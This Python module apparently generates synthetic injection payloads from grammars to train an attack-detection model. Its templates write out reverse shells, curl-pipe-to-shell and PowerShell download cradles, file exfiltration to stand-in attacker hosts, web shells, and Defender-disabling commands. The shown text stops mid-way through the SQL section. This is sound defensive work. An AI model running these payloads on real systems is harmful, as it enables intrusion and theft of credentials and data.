"""Attack payloads written from the grammar of each injection class, for training the attack model.

The public payload lists the training data comes from are dominated by a few sources, and a model
trained on them learns those lists' idioms: hold one source out and detection of its variants drops.
This module writes payloads from first principles instead. Each family is a small grammar (the
contexts an injection closes, the constructs it injects, the way it ends) with randomised inner
parts (tables, columns, commands, files, hosts, tags, handlers, numbers), plus the evasions
attackers layer on top (`evade`). `benign_lookalikes` gives the opposite: ordinary values that
share the characters and words of attacks (quotes, `<`, `&`, `select`, paths, URLs) but are not.

Public API: FAMILIES, generate(family, n, seed), generate_all(per_family, seed),
evade(value, rng, family=None) and benign_lookalikes(n, seed). Everything is deterministic for a
seed (each family has its own stream, seeded seed*1000 + its index, never hash()) and uses only
the standard library (plus normalize(), to drop values that decode to nothing scoreable).

Templates are strings with slots written `§name§`; a slot is a weighted choice of templates or a
function of the random generator. `§name:key§` draws the slot once per payload and repeats it
(`'§w:a§'='§w:a§'` is a tautology on one random word).
"""
from __future__ import annotations

import base64
import bisect
import json
import random
import re
from typing import Callable, Iterable

from extproc.attack.normalize import normalize

FAMILIES: tuple[str, ...] = (
    "sqli", "xss", "rce", "lfi", "ssti", "ssrf", "xxe", "nosqli", "ldapi", "crlf", "xpathi",
    "open-redirect", "prototype-pollution", "ssi",
)
EVADE_RATE = 0.4  # share of generated payloads passed through `evade`
MAX_CHARS = 4096  # the model scores values in windows of this size (ExtractSettings.max_value_chars)
# Values made only of these characters are never scored (mirror of extract.SAFE_VALUE): useless here.
SAFE_VALUE = re.compile(r"[A-Za-z0-9_.@-]{0,128}\Z")
_BENIGN_STREAM = 999  # seed offset of benign_lookalikes, apart from the families' 0..13


# ---------------------------------------------------------------------------------------------
# Grammar machinery
# ---------------------------------------------------------------------------------------------

class _Pick:
    """A weighted choice: entries are templates or (weight, template) pairs."""

    __slots__ = ("items", "cum", "total")

    def __init__(self, entries: Iterable) -> None:
        self.items, self.cum, total = [], [], 0.0
        for entry in entries:
            weight, item = entry if isinstance(entry, tuple) else (1.0, entry)
            total += weight
            self.items.append(item)
            self.cum.append(total)
        self.total = total

    def __call__(self, rng: random.Random):
        return self.items[bisect.bisect_right(self.cum, rng.random() * self.total)]


_G: dict[str, _Pick | Callable[[random.Random], str]] = {}
_SLOT = re.compile(r"§(\w+)(?::(\w+))?§")


def _def(name: str, entries) -> None:
    _G[name] = entries if callable(entries) and not isinstance(entries, (list, tuple)) else _Pick(entries)


def _fill(template: str, rng: random.Random, memo: dict | None = None) -> str:
    if "§" not in template:
        return template
    if memo is None:
        memo = {}

    def slot(match: re.Match) -> str:
        name, key = match.group(1), match.group(2)
        if key is None:
            return _expand(name, rng, memo)
        ref = name + ":" + key
        if ref not in memo:
            memo[ref] = _expand(name, rng, memo)
        return memo[ref]

    return _SLOT.sub(slot, template)


def _expand(name: str, rng: random.Random, memo: dict) -> str:
    rule = _G[name]
    if isinstance(rule, _Pick):
        return _fill(rule(rng), rng, memo)
    return rule(rng)


def _s(name: str, rng: random.Random) -> str:
    """One fresh draw of a slot."""
    return _expand(name, rng, {})


def _ri(lo: int, hi: int) -> Callable[[random.Random], str]:
    return lambda rng: str(rng.randint(lo, hi))


def _letters(rng: random.Random, lo: int = 3, hi: int = 8, alphabet: str = "abcdefghijklmnopqrstuvwxyz") -> str:
    return "".join(rng.choice(alphabet) for _ in range(rng.randint(lo, hi)))


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


# ---------------------------------------------------------------------------------------------
# Shared vocabulary
# ---------------------------------------------------------------------------------------------

_WORDS = ("admin", "test", "user", "guest", "root", "demo", "alice", "bob", "support", "info", "dev", "staff",
          "manager", "john", "maria", "web", "api", "backup", "qa", "sales", "billing", "default", "service",
          "system", "operator", "jsmith", "webmaster", "tester", "sysadmin", "postgres", "carlos", "wiener")
_NOUNS = ("foo", "bar", "baz", "qux", "abc", "xyz", "hello", "data", "value", "probe", "check", "poc", "zzz",
          "pwn", "hack", "owned", "canary", "marker", "token", "flag", "inj", "vuln", "bug", "tmp", "x", "a")
_TABLES = ("users", "user", "accounts", "admin", "admins", "members", "customers", "orders", "products", "login",
           "logins", "credentials", "employees", "staff", "tbl_users", "wp_users", "sessions", "payments", "cards",
           "clients", "profiles", "auth", "passwords", "secrets", "invoices", "config", "settings", "jos_users",
           "account", "userinfo", "tbl_admin", "app_users", "people", "user_accounts", "creds")
_COLUMNS = ("id", "username", "user", "login", "password", "passwd", "pass", "pwd", "email", "hash", "token",
            "secret", "name", "first_name", "last_name", "credit_card", "cc_number", "ssn", "api_key", "role",
            "is_admin", "user_pass", "user_login", "salt", "phone", "address", "uid", "session_id", "pin", "mail")
_TLDS = ("com", "net", "org", "io", "ru", "cn", "xyz", "top", "info", "me", "cc", "pw", "su", "site", "online",
         "tk", "co", "biz", "dev", "app", "in", "to", "ws", "link")
_EVIL = ("evil", "attacker", "attack", "pwn", "hacker", "exploit", "malicious", "badguy", "c2", "exfil", "payload",
         "shell", "rogue", "phish", "owned", "xpl", "sploit", "leak", "grabber", "steal", "collab", "callback",
         "oob", "listener", "bad", "mal", "h4x", "r00t", "pwned", "hook", "stealer", "dropper", "beacon")
_OOB = ("oast.pro", "oast.live", "oast.site", "oast.online", "oast.fun", "oast.me", "interact.sh",
        "burpcollaborator.net", "oastify.com", "dnslog.cn", "ceye.io", "requestbin.net", "webhook.site",
        "pipedream.net", "ngrok.io", "ngrok-free.app", "canarytokens.com", "xss.ht", "bxss.me",
        "trycloudflare.com", "requestcatcher.com", "beeceptor.com")
_COMPANIES = ("example", "acme", "contoso", "initech", "globex", "umbrella", "hooli", "piedpiper", "wayneent",
              "stark", "shop", "mybank", "fabrikam", "northwind", "tailspin", "wingtip", "adventure-works",
              "massive", "cyberdyne", "soylent", "vandelay", "dundermifflin", "gringotts", "oscorp")
_SUBDOMAINS = ("www", "app", "login", "accounts", "api", "secure", "portal", "auth", "shop", "my", "m", "admin")
_PUBLIC_FIRST_OCTETS = (5, 23, 31, 37, 45, 46, 51, 62, 77, 78, 80, 81, 85, 89, 91, 93, 94, 103, 104, 107, 109,
                        138, 139, 141, 142, 144, 146, 149, 151, 154, 157, 159, 162, 167, 176, 178, 185, 188,
                        193, 194, 195, 198, 203, 205, 206, 207, 209, 212, 213, 217)
_PORTS = ("4444", "1337", "9001", "8080", "443", "53", "80", "4242", "31337", "6666", "9999", "1234", "5555",
          "8443", "7777", "2222", "8888", "9000", "4443", "12345")


def _word(rng: random.Random) -> str:
    r = rng.random()
    if r < 0.4:
        return rng.choice(_WORDS)
    if r < 0.7:
        return rng.choice(_NOUNS)
    return _letters(rng)


def _pub_ip(rng: random.Random) -> str:
    return f"{rng.choice(_PUBLIC_FIRST_OCTETS)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"


def _evil_domain(rng: random.Random) -> str:
    r = rng.random()
    name = rng.choice(_EVIL)
    if rng.random() < 0.3:
        name += str(rng.randint(1, 999))
    if r < 0.5:
        domain = f"{name}.{rng.choice(_TLDS)}"
    elif r < 0.75:
        domain = f"{rng.choice(_WORDS + _NOUNS)}{rng.choice(('', '-'))}{name}.{rng.choice(_TLDS)}"
    else:
        domain = f"{_letters(rng, 4, 10)}.{rng.choice(_TLDS)}"
    if rng.random() < 0.2:
        domain = f"{rng.choice(_SUBDOMAINS + ('cdn', 'x', 'static', 'files'))}.{domain}"
    return domain


def _host(rng: random.Random) -> str:
    """An attacker-controlled host: domain, out-of-band collector or public IP."""
    r = rng.random()
    if r < 0.5:
        return _evil_domain(rng)
    if r < 0.78:
        return f"{_letters(rng, 6, 20, 'abcdefghijklmnopqrstuvwxyz0123456789')}.{rng.choice(_OOB)}"
    return _pub_ip(rng)


def _trusted(rng: random.Random) -> str:
    domain = f"{rng.choice(_COMPANIES)}.{rng.choice(('com', 'com', 'org', 'net', 'io', 'co.uk', 'de', 'es'))}"
    return f"{rng.choice(_SUBDOMAINS)}.{domain}" if rng.random() < 0.5 else domain


def _ip_form(rng: random.Random, octets: tuple[int, int, int, int], weird: float = 0.6) -> str:
    """One of the many spellings of an IPv4 address that URL parsers and resolvers accept."""
    a, b, c, d = octets
    n = (a << 24) | (b << 16) | (c << 8) | d
    if rng.random() > weird:
        return f"{a}.{b}.{c}.{d}"
    form = rng.randrange(15)
    if form == 0:
        return str(n)
    if form == 1:
        return ("0x%08x" if rng.random() < 0.6 else "0x%08X") % n
    if form == 2:
        return ".".join("0x%02x" % o for o in octets)
    if form == 3:
        return ".".join(("0%o" % o) if o else "0" for o in octets)
    if form == 4:
        parts = []
        for o in octets:
            k = rng.randrange(3)
            parts.append(str(o) if k == 0 else ("0x%x" % o) if k == 1 else ("0%o" % o if o else "00"))
        return ".".join(parts)
    if form == 5:
        return f"{a}.{b}.{(c << 8) | d}"
    if form == 6:
        return f"{a}.{(b << 16) | (c << 8) | d}"
    if form == 7:
        return f"[::ffff:{a}.{b}.{c}.{d}]"
    if form == 8:
        return f"[::ffff:{(a << 8) | b:x}:{(c << 8) | d:x}]"
    if form == 9:
        return f"[0:0:0:0:0:ffff:{a}.{b}.{c}.{d}]"
    if form == 10:  # enclosed alphanumerics: NFKC folds them to ASCII digits
        circled = {"0": "\u24ea", **{str(i): chr(0x2460 + i - 1) for i in range(1, 10)}}
        return "".join(circled.get(ch, ch) for ch in f"{a}.{b}.{c}.{d}")
    if form == 11:  # fullwidth digits and full stop
        return "".join(chr(ord(ch) + 0xFEE0) for ch in f"{a}.{b}.{c}.{d}")
    if form == 12:
        return f"{a}.{b}.{c}.{d}.nip.io" if rng.random() < 0.5 else f"{a}-{b}-{c}-{d}.sslip.io"
    if form == 13:
        return "%03d.%03d.%03d.%03d" % octets
    return ".".join("0" * rng.randint(1, 4) + "%o" % o for o in octets)


def _unix_abs(rng: random.Random) -> str:
    return "/" + _s("unix_file", rng)


# Generic slots shared by several families.
_def("w", _word)
_def("W", lambda rng: _word(rng).upper() if rng.random() < 0.5 else _word(rng).capitalize())
_def("rand", lambda rng: _letters(rng, 4, 12, "abcdefghijklmnopqrstuvwxyz0123456789"))
_def("n", _ri(1, 9))
_def("nn", _ri(10, 99))
_def("N", lambda rng: str(rng.choice((rng.randint(100, 999), rng.randint(1000, 99999), rng.randint(1, 50)))))
_def("big", lambda rng: str(rng.choice((9999999, 99999999, 1000000, 5000000, 10000000, 50000000))))
_def("host", _host)
_def("unix_abs", _unix_abs)
_def("evil", _evil_domain)
_def("ip", _pub_ip)
_def("port", lambda rng: rng.choice(_PORTS) if rng.random() < 0.8 else str(rng.randint(1025, 65535)))
_def("trusted", _trusted)
_def("user", ["admin", "administrator", "root", "§w§", "admin", "sa", "test", "guest", "superuser", "jdoe",
              "manager", "webadmin", "sysadmin", "user", "demo", "carlos", "alice"])
_def("table", lambda rng: rng.choice(_TABLES))
_def("col", lambda rng: rng.choice(_COLUMNS))
_def("letter", lambda rng: rng.choice("abcdefghijklmnopqrstuvwxyz0123456789"))
_def("param", ["cmd", "c", "x", "exec", "q", "0", "1", "a", "run", "command", "shell", "e", "code", "§w§"])
_def("exfil", ["//§host§/?c=", "https://§host§/log?c=", "http://§host§/", "https://§host§/c?", "//§host§/",
               "http://§ip§:§port§/?", "https://§host§/collect?d=", "//§host§/x.gif?"])
_def("unix_file", [
    (12, "etc/passwd"), (3, "etc/shadow"), "etc/group", (2, "etc/hosts"), "etc/hostname", "etc/issue",
    "etc/motd", "etc/resolv.conf", "etc/crontab", "etc/sudoers", "etc/fstab", "etc/os-release",
    "etc/ssh/sshd_config", "etc/mysql/my.cnf", "etc/nginx/nginx.conf", "etc/nginx/sites-enabled/default",
    "etc/apache2/apache2.conf", "etc/httpd/conf/httpd.conf", "etc/php/§phpver§/apache2/php.ini",
    (3, "proc/self/environ"), "proc/self/cmdline", "proc/self/status", "proc/self/maps", "proc/self/fd/§n§",
    "proc/self/cwd/§appfile§", "proc/version", "proc/mounts", "proc/net/tcp", "proc/§pid§/cmdline",
    "proc/§pid§/environ", "var/log/apache2/access.log", "var/log/apache2/error.log", "var/log/nginx/access.log",
    "var/log/nginx/error.log", "var/log/auth.log", "var/log/syslog", "var/log/httpd/access_log",
    "var/log/vsftpd.log", "var/mail/§w§", "var/www/html/§appfile§", "root/.ssh/id_rsa",
    "root/.ssh/authorized_keys", "root/.bash_history", "home/§w§/.ssh/id_rsa", "home/§w§/.bash_history",
    "home/§w§/.aws/credentials", "root/.aws/credentials", "root/.docker/config.json", "home/§w§/.kube/config",
    "var/run/secrets/kubernetes.io/serviceaccount/token", "usr/local/etc/php/php.ini",
    "opt/tomcat/conf/tomcat-users.xml", "etc/tomcat§n§/tomcat-users.xml", "srv/§w§/.env", "app/.env",
    "var/www/.env", "usr/src/app/.env", "var/www/html/.git/config", "etc/redis/redis.conf",
    "etc/postgresql/§nn§/main/pg_hba.conf", "var/lib/jenkins/secrets/master.key", "etc/environment",
    "etc/profile", "root/.mysql_history", "etc/ld.so.preload", "etc/security/passwd"])
_def("win_file", [
    (8, "windows/win.ini"), "windows/system.ini", (4, "boot.ini"), "windows/system32/drivers/etc/hosts",
    "windows/system32/config/sam", "windows/repair/sam", "windows/repair/system", "windows/panther/unattend.xml",
    "windows/panther/unattended.xml", "windows/debug/netsetup.log", "windows/system32/inetsrv/config/applicationhost.config",
    (2, "inetpub/wwwroot/web.config"), "inetpub/logs/logfiles/w3svc1/u_ex§nn§0§n§1§n§.log", "xampp/apache/conf/httpd.conf",
    "xampp/php/php.ini", "xampp/phpmyadmin/config.inc.php", "wamp64/bin/apache/apache2.4.§nn§/conf/httpd.conf",
    "users/§w§/desktop/desktop.ini", "users/administrator/ntuser.dat", "programdata/mysql/mysql server 8.0/my.ini",
    "windows/php.ini", "windows/system32/license.rtf", "windows/system32/eula.txt", "autoexec.bat",
    "windows/iis6.log", "windows/system32/inetsrv/metabase.xml", "windows/win.ini"])
_def("app_file", [
    (3, "WEB-INF/web.xml"), "WEB-INF/classes/application.properties", "WEB-INF/classes/application.yml",
    "WEB-INF/classes/hibernate.cfg.xml", "WEB-INF/classes/log4j.properties", "META-INF/MANIFEST.MF",
    "META-INF/context.xml", (3, ".env"), ".env.production", ".env.local", ".git/config", ".git/HEAD", ".htaccess",
    ".htpasswd", ".svn/entries", "web.config", (2, "config.php"), (2, "wp-config.php"), "configuration.php",
    "config/database.yml", "config/secrets.yml", "config/master.key", "app/etc/env.php",
    "app/config/parameters.yml", "application/config/database.php", "settings.py", "local_settings.py",
    "appsettings.json", "appsettings.Production.json", "package.json", "composer.json", "Dockerfile",
    "docker-compose.yml", ".aws/credentials", "index.php", "includes/config.inc.php",
    "sites/default/settings.php", "server.js", "app.py", "config.js", ".npmrc", ".dockercfg", "id_rsa"])
_def("appfile", ["index.php", "config.php", "app.py", "server.js", ".env", "wp-config.php", "settings.py",
                 "main.go", "app.js", "web.config", "application.properties"])
_def("phpver", ["7.4", "8.1", "8.2", "5.6", "7.2", "8.0", "8.3"])
_def("pid", _ri(1, 4000))
_def("webroot", ["/var/www/html", "/var/www", "/usr/share/nginx/html", "/srv/www/htdocs", "c:/inetpub/wwwroot",
                 "/var/www/html/uploads", "c:/xampp/htdocs", "/tmp", "/opt/lampp/htdocs"])
_def("phpshell", ["<?php system($_GET['§param§']); ?>", "<?php echo shell_exec($_REQUEST['§param§']); ?>",
                  "<?php passthru($_GET['§param§']);?>", "<?=`$_GET[§param§]`?>", "<?php eval($_POST['§param§']);?>",
                  "<?php @eval(base64_decode($_POST['§param§']));?>", "<?php phpinfo(); ?>"])


# ---------------------------------------------------------------------------------------------
# Operating-system commands (shared by rce, ssti, ssi, sqli's xp_cmdshell, ...)
# ---------------------------------------------------------------------------------------------

_def("ucmd", [
    (6, "id"), (5, "whoami"), (3, "uname -a"), "uname -r", "uname -s", "hostname", "pwd", "ps aux", "ps -ef",
    "env", "printenv", "ifconfig", "ip a", "ip addr show", "netstat -an", "netstat -tulpn", "ss -lntp", "ls",
    "id -u", "groups", "w", "last", "who", "df -h", "mount", "lsb_release -a", "sudo -l", "getent passwd",
    "set", "uptime", "date", "arp -a", "route -n", "cat /etc/os-release", "cat /proc/version", "which python3",
    (8, "cat /§unix_file§"), (2, "head -n §n§ /§unix_file§"), "tail -§nn§ /§unix_file§", "more /§unix_file§",
    "less /§unix_file§", "nl /§unix_file§", "base64 /§unix_file§", "xxd /§unix_file§", "od -c /§unix_file§",
    "strings /§unix_file§", "tac /§unix_file§", "grep -r §col§ /var/www", "grep root /etc/passwd",
    "cut -d: -f1 /etc/passwd", "awk -F: '{print $1}' /etc/passwd", "sort /etc/passwd", "rev /etc/passwd",
    (3, "ls -la §dir§"), "ls -al §dir§", "ls -lR §dir§", "find §dir§ -name '*.§ext§'",
    "find / -perm -4000 -type f 2>/dev/null", "find / -writable -type d 2>/dev/null",
    (3, "curl http://§host§/§script§|sh"), (2, "curl -s §host§/§script§ | bash"), "wget -qO- http://§host§/§script§|sh",
    (2, "wget http://§host§/§bin§ -O /tmp/§bin§;chmod +x /tmp/§bin§;/tmp/§bin§"),
    "curl -o /tmp/§bin§ http://§host§/§bin§ && chmod 755 /tmp/§bin§ && /tmp/§bin§",
    "curl -d @/§unix_file§ http://§host§/", "curl -F f=@/§unix_file§ https://§host§/up", "curl http://§host§/?d=$(whoami)",
    "curl §host§/$(id|base64)", "wget --post-file=/§unix_file§ http://§host§/", "curl -X POST --data-binary @/§unix_file§ §host§",
    (3, "nc -e /bin/sh §ip§ §port§"), "nc §ip§ §port§ -e /bin/bash", "ncat §ip§ §port§ -e /bin/sh", "nc -lvp §port§ -e /bin/sh",
    (3, "bash -i >& /dev/tcp/§ip§/§port§ 0>&1"), "bash -c 'bash -i >& /dev/tcp/§ip§/§port§ 0>&1'",
    "sh -i >& /dev/udp/§ip§/§port§ 0>&1", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc §ip§ §port§ >/tmp/f",
    "0<&196;exec 196<>/dev/tcp/§ip§/§port§; sh <&196 >&196 2>&196", "socat tcp-connect:§ip§:§port§ exec:/bin/sh,pty,stderr",
    "telnet §ip§ §port§ | /bin/sh | telnet §ip§ §port§",
    "python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"§ip§\",§port§));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'",
    "python3 -c 'import os,pty,socket;s=socket.socket();s.connect((\"§ip§\",§port§));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn(\"sh\")'",
    "perl -e 'use Socket;$i=\"§ip§\";$p=§port§;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");'",
    "php -r '$s=fsockopen(\"§ip§\",§port§);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    "ruby -rsocket -e 'exit if fork;c=TCPSocket.new(\"§ip§\",§port§);loop{c.gets.chomp!;IO.popen($_,\"r\"){|io|c.print io.read}}'",
    "awk 'BEGIN{s=\"/inet/tcp/0/§ip§/§port§\";while(1){printf \"> \" |& s;s |& getline c;while((c |& getline)>0)print $0 |& s;close(c)}}'",
    (3, "ping -c §n§ §host§"), (2, "ping -c §n§ 127.0.0.1"), "ping -n §n§ 127.0.0.1", (4, "sleep §n§"), "sleep §nn§",
    "timeout §n§ sleep §nn§", (2, "nslookup §rand§.§host§"), "dig §rand§.§host§", "host §rand§.§host§",
    "nslookup $(whoami).§host§", "dig +short $(hostname).§host§", "ping -c 1 $(whoami).§host§",
    "echo §b64cmd§ | base64 -d | sh", "echo §b64cmd§|base64 -d|bash", "touch /tmp/§w§", "rm -rf /tmp/§w§",
    "echo §w§ > /tmp/§w§", "echo '§phpshell§' > §webroot§/§w§.php", "chmod 777 /tmp/§w§",
    "echo 'ssh-rsa AAAAB3NzaC1yc2E§rand§ §w§@§w§' >> /root/.ssh/authorized_keys",
    "(crontab -l;echo '* * * * * curl §host§/§script§|sh')|crontab -", "kill -9 -1", "killall -9 §w§",
    "shutdown -h now", "reboot", "cat /proc/self/environ", "echo $PATH", "echo ${HOME}", "expr §nn§ \\* §nn§",
    "echo §rand§", "printf §rand§", "id;uname -a", "whoami;id", "uname -a;cat /etc/passwd",
    "python -c 'print(§nn§*§nn§)'", "perl -e 'print §nn§*§nn§'", "php -r 'echo §nn§*§nn§;'"])
_def("dir", ["/", "/etc", "/tmp", "/var/www", "/var/www/html", "/home", "/root", "/opt", ".", "..", "~",
             "/usr/local/bin", "/proc/self/cwd", "/srv", "/app", "/var/log"])
_def("ext", ["php", "conf", "env", "key", "pem", "sql", "bak", "py", "yml", "xml", "log", "txt", "cfg", "ini"])
_def("script", ["§w§.sh", "x", "s", "§rand§", "i.sh", "run", "payload", "install.sh", "a.sh", "§w§", "b", "c.txt"])
_def("bin", ["§w§", "x", "kworker", "xmrig", "§rand§", "a.out", "bot", "sshd", "dbus", "update", "mirai", "tsunami"])
_def("b64cmd", lambda rng: _b64(_s("ucmd_simple", rng)))
_def("ucmd_simple", [
    (4, "id"), (3, "whoami"), "uname -a", "hostname", "cat /etc/passwd", "ls -la /", "ps aux", "env", "pwd",
    "curl §host§", "wget §host§/§w§", "ping -c §n§ §host§", "sleep §n§", "nslookup §host§", "cat /§unix_file§",
    "bash -i >& /dev/tcp/§ip§/§port§ 0>&1", "nc §ip§ §port§ -e /bin/sh", "ls", "ifconfig", "echo §rand§"])
_def("wcmd", [
    (5, "whoami"), "whoami /priv", "whoami /all", "whoami /groups", (2, "dir c:\\"), "dir §winpath§",
    "dir /s /b §winpath§\\*.config", "type c:\\§win_file_bs§", "type %WINDIR%\\win.ini", (2, "ipconfig /all"), "ipconfig",
    (2, "net user"), "net localgroup administrators", "net user §w§ §pw§ /add",
    "net localgroup administrators §w§ /add", "net user administrator", "net view", "net share", "systeminfo",
    "tasklist", "tasklist /svc", "hostname", "ver", "set", "echo %USERNAME%", "echo %COMPUTERNAME%", "netstat -ano",
    "ping -n §n§ §host§", "ping -n §n§ 127.0.0.1", "nslookup §rand§.§host§", "timeout /t §n§", "cmd /c §wcmd_simple§",
    "cmd.exe /c §wcmd_simple§", "%COMSPEC% /c §wcmd_simple§", (3, "powershell -enc §ps_b64§"),
    "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand §ps_b64§",
    (2, "powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://§host§/§w§.ps1')\""),
    "powershell -c \"iwr http://§host§/§w§.exe -OutFile $env:TEMP\\§w§.exe; & $env:TEMP\\§w§.exe\"",
    "powershell Invoke-WebRequest -Uri http://§host§/?u=$env:username", "powershell -c Get-ChildItem C:\\Users",
    "powershell Start-Sleep -s §n§", "powershell -c \"Get-Content C:\\§win_file_bs§\"",
    (2, "certutil -urlcache -split -f http://§host§/§w§.exe %TEMP%\\§w§.exe"), "certutil.exe -urlcache -f http://§host§/§w§.exe §w§.exe",
    "certutil -decode %TEMP%\\§w§.b64 %TEMP%\\§w§.exe", "bitsadmin /transfer §w§ http://§host§/§w§.exe %TEMP%\\§w§.exe",
    "mshta http://§host§/§w§.hta", "mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\"\")(window.close)",
    "regsvr32 /s /n /u /i:http://§host§/§w§.sct scrobj.dll", "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(§n§)",
    "wmic process call create \"§wcmd_simple§\"", "wmic os get caption,version", "wmic useraccount list",
    "reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run", "reg save HKLM\\SAM %TEMP%\\sam",
    "sc query", "schtasks /create /sc minute /tn §w§ /tr \"§wcmd_simple§\"", "del /f /q %TEMP%\\§w§",
    "copy c:\\§win_file_bs§ \\\\§host§\\share\\", "findstr /si password *.txt *.xml *.config", "w^h^o^a^m^i",
    "who\"\"ami", "wh\"o\"ami", "net1 user", "calc", "calc.exe", "notepad.exe", "start calc", "type C:\\boot.ini",
    "cmd /v:on /c \"set a=who&&set b=ami&&call !a!!b!\""])
_def("wcmd_simple", ["whoami", "calc", "calc.exe", "ipconfig", "dir", "net user", "hostname", "ping -n §n§ §host§",
                     "type c:\\windows\\win.ini", "notepad", "tasklist", "systeminfo"])
_def("win_file_bs", lambda rng: _s("win_file", rng).replace("/", "\\"))
_def("winpath", ["c:\\", "c:\\windows", "c:\\users", "c:\\inetpub\\wwwroot", "%TEMP%", "%USERPROFILE%",
                 "c:\\windows\\system32", "c:\\program files", "d:\\", "c:\\users\\public", "%APPDATA%"])
_def("pw", ["P@ssw0rd", "Passw0rd!", "§w§123", "hacked", "§rand§", "Password1", "toor", "pwned123!", "Summer2024!"])
_PS_COMMANDS = (
    "IEX(New-Object Net.WebClient).DownloadString('http://{h}/{w}.ps1')", "whoami", "Get-Process",
    "Invoke-WebRequest -Uri http://{h}/ -Method POST -Body (Get-Content C:\\Windows\\win.ini)",
    "$c=New-Object Net.Sockets.TCPClient('{ip}',{p});$s=$c.GetStream();[byte[]]$b=0..65535|%{{0}};"
    "while(($i=$s.Read($b,0,$b.Length)) -ne 0){{$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);"
    "$o=(iex $d 2>&1|Out-String);$s.Write(([text.encoding]::ASCII).GetBytes($o),0,$o.Length)}}",
    "Start-Process calc.exe", "net user {w} P@ss{p}! /add", "Get-ChildItem Env:", "Start-Sleep -Seconds {p}",
    "Add-MpPreference -ExclusionPath C:\\", "Set-MpPreference -DisableRealtimeMonitoring $true")


def _ps_b64(rng: random.Random) -> str:
    command = rng.choice(_PS_COMMANDS).format(h=_host(rng), w=_word(rng), ip=_pub_ip(rng), p=rng.randint(2, 9999))
    return base64.b64encode(command.encode("utf-16-le")).decode()


_def("ps_b64", _ps_b64)


def _quote_safe(slot: str, forbidden: str) -> Callable[[random.Random], str]:
    """A draw of `slot` that can sit inside a string quoted with `forbidden` characters."""
    def draw(rng: random.Random) -> str:
        for _ in range(8):
            value = _s(slot, rng)
            if not any(ch in value for ch in forbidden):
                return value
        return rng.choice(("id", "whoami", "uname -a", "ls", "hostname"))
    return draw


_def("cmdq", _quote_safe("ucmd", "'"))        # inside '...'
_def("cmdqq", _quote_safe("ucmd", '"$`\\'))   # inside "..." (no expansions either)
_def("cmdbt", _quote_safe("ucmd", "`"))        # inside `...`
_def("cmd", [(4, "§ucmd§"), (1, "§wcmd§")])


# ---------------------------------------------------------------------------------------------
# SQL injection
# ---------------------------------------------------------------------------------------------

_def("sqv", ["1", "§n§", "§N§", "admin", "§w§", "§user§", "test", "x", "a@b.c", "§w§@§w§.com", "0", "abc", "10"])
_def("sq_sctx", [(14, "'"), (4, '"'), (4, "')"), (2, '")'), (1, "'))"), (1, '"))'), (9, "§sqv§'"), (2, '§sqv§"'),
                 (3, "§sqv§')"), (1, "§sqv§'))"), (1, "%'"), (1, "§sqv§%'"), (1, "§sqv§\\'"), (1, "§sqv§')))")])
_def("sq_nctx", [(6, "§n§"), (2, "-§n§"), (2, "§N§"), (2, "§n§)"), (1, "§n§))"), (2, "0"), (2, "-1"), (1, "999999"),
                 (1, "§n§.§n§"), (1, "(§n§)"), (1, "null")])
_def("sq_open", [(6, "§sq_sctx§"), (4, "§sq_nctx§")])
_def("sq_end", [(10, "-- "), (6, "--"), (4, "-- -"), (3, "#"), (2, "--+"), (2, "/*"), (2, ";--"), (1, "-- §w§"),
                (1, "#§w§"), (1, ";%00"), (1, "%00"), (10, ""), (1, ";"), (1, "--+-"), (1, " -- //"), (1, ";#"),
                (1, "-- §nn§"), (1, ")-- "), (1, "`"), (1, "/*!*/")])
_def("or", [(10, "or"), (2, "||"), (1, "or/**/")])
_def("and", [(10, "and"), (2, "&&")])


def _sq_truth(rng: random.Random, true: bool = True) -> str:
    a, b = rng.randint(0, 99), rng.randint(1, 99)
    w, w2 = _word(rng), _letters(rng, 1, 6)
    k = rng.randrange(24)
    if true:
        forms = (f"{a}={a}", f"{a + b}-{b}={a}", f"{a}*{b}={a * b}", f"{a + b}>{a}", f"{a}<{a + b}", f"{a}<>{a + b}",
                 f"{a}!={a + b}", f"{a} between {max(a - 1, 0)} and {a + b}", f"{a} in ({b},{a})", f"'{w}'='{w}'",
                 f"'{w}' like '{w[0]}%'", f"'{w}'<>'{w}{w2}'", f"not {a}={a + 1}", f"{a} is not null", "true",
                 "not false", str(b), f"ascii('{w[0]}')={ord(w[0])}", f"length('{w}')={len(w)}",
                 f"0x{b:x}={b}", f"{a} rlike {a}", f"'{w}' regexp '^{w[0]}'", f"({a})=({a})", f"{a}^0={a}")
    else:
        forms = (f"{a}={a + b}", f"{a + b}-{b}={a + 1}", f"{a}*{b}={a * b + 1}", f"{a}>{a + b}", f"{a + b}<{a}",
                 f"'{w}'='{w}{w2}'", f"{a}<>{a}", "false", "not true", f"{a} is null", f"'{w}' like '{w2}{w}'",
                 f"{a} in ({a + b},{a + 2 * b})", f"length('{w}')={len(w) + b}", f"{a}={a}-{b}", "0",
                 f"{a} between {a + 1} and {a + b}", f"'{w}'<'{w}'", f"ascii('{w[0]}')={ord(w[0]) + b}",
                 f"0x{b:x}={b + 1}", f"{a}!={a}", f"({a})=({a + b})", f"{a} rlike {a + b}", f"{a}^{b}={a}",
                 f"'{w}' regexp '^{w2}{w}'")
    return forms[k]


_def("sq_true", _sq_truth)
_def("sq_false", lambda rng: _sq_truth(rng, False))
_def("sq_taut", [
    (10, "§sq_sctx§ §or§ §sq_true§§sq_end§"), (6, "§sq_nctx§ §or§ §sq_true§§sq_end§"),
    (3, "§sq_sctx§ §or§ §sq_true§ limit §n§§sq_end§"), (2, "§sq_sctx§ §or§ §sq_true§ §or§ '§w§'='"),
